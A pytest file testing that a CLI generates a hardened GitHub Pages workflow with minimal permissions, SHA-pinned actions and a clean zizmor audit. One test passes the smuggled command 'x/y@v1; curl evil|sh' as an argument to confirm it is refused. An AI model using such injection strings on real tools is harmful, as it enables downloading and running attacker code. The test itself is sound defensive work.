"""`pmops init --site`: a GitHub Pages workflow that zizmor and GitHub's schema accept."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from pmops.cli.main import cli
from pmops.setup.site_workflow import SITE_WORKFLOW_PATH
from tests.test_init_doctor import run_tool

PINNED = "acme/pmops@0123456789abcdef0123456789abcdef01234567 # v1.0.0"


@pytest.fixture
def workflow(tmp_path: Path) -> Path:
    args = ["init", "--repo", str(tmp_path), "--owner", "@acme/sre", "--site", "--action", PINNED]
    result = CliRunner().invoke(cli, args, catch_exceptions=False)
    assert result.exit_code == 0 and f"created  {SITE_WORKFLOW_PATH}" in result.stdout
    return tmp_path / SITE_WORKFLOW_PATH


def test_jobs_have_least_permissions(workflow: Path) -> None:
    data = yaml.safe_load(workflow.read_text())
    assert data["permissions"] == {}
    assert data["jobs"]["build"]["permissions"] == {"contents": "read", "issues": "read"}
    assert data["jobs"]["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert data["jobs"]["deploy"]["environment"]["name"] == "github-pages"
    steps = data["jobs"]["build"]["steps"]
    script = next(s["run"] for s in steps if "run" in s)
    assert '"pmops @ git+https://github.com/acme/pmops@0123456789abcdef' in script
    assert "pmops site _site" in script and "${{" not in script
    # the action items' state, read from their tracking issues with the job's token
    assert '--github "$GITHUB_REPOSITORY"' in script
    build = next(s for s in steps if "run" in s)
    assert build["env"] == {"GITHUB_TOKEN": "${{ github.token }}"}
    assert data[True]["issues"] == {"types": ["closed", "reopened"]}
    uses = [s["uses"] for job in data["jobs"].values() for s in job["steps"] if "uses" in s]
    assert [u.split("@")[0] for u in uses] == [
        "actions/checkout", "actions/setup-python", "actions/upload-pages-artifact",
        "actions/deploy-pages",
    ]  # fmt: skip
    assert all(len(u.split("@")[1]) == 40 for u in uses)  # pinned to commit SHAs
    assert data[True]["push"]["paths"] == ["postmortems/**"]  # YAML 1.1 reads `on` as True


def test_workflow_passes_zizmor_and_githubs_schema(workflow: Path) -> None:
    result = run_tool("zizmor", "--offline", "--no-progress", "--persona", "auditor", str(workflow))
    assert result.returncode == 0 and "No findings" in result.stdout, result.stdout + result.stderr
    result = run_tool(
        "check-jsonschema", "--builtin-schema", "vendor.github-workflows", str(workflow)
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_without_site_no_pages_workflow_and_bad_refs_are_refused(tmp_path: Path) -> None:
    runner = CliRunner()
    runner.invoke(cli, ["init", "--repo", str(tmp_path / "a")], catch_exceptions=False)
    assert not (tmp_path / "a" / SITE_WORKFLOW_PATH).exists()
    bad = ["init", "--repo", str(tmp_path / "b"), "--site", "--action", "x/y@v1; curl evil|sh"]
    result = runner.invoke(cli, bad)
    assert result.exit_code != 0 and "expected OWNER/NAME@REF" in result.output
    assert not (tmp_path / "b" / SITE_WORKFLOW_PATH).exists()
